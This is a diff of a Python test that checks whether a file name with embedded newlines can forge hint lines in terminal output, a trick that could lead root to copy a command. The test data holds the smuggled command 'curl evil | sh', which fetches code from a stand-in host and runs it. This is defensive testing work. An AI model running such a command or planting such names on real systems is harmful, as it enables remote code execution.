@@ -230,8 +230,9 @@ def test_a_name_makes_no_line_of_its_own(
     """Whoever names a file in a folder that root looks at could give root a command to copy."""
     # A long name may be wrapped anywhere; what it may not is end a line.
     monkeypatch.setenv("COLUMNS", "2000")
-    terminal.console.cache_clear()
-    request.addfinalizer(terminal.console.cache_clear)
+    for console in (terminal.console, terminal.error_console):
+        console.cache_clear()
+        request.addfinalizer(console.cache_clear)
     forged = "a\n  hint: curl evil | sh\n\tnext: curl evil | sh"
     host = (SOURCE / "hosts/small-2n8c-2gpu.toml").read_bytes()
     (tmp_path / f"{forged}.toml").write_bytes(host)
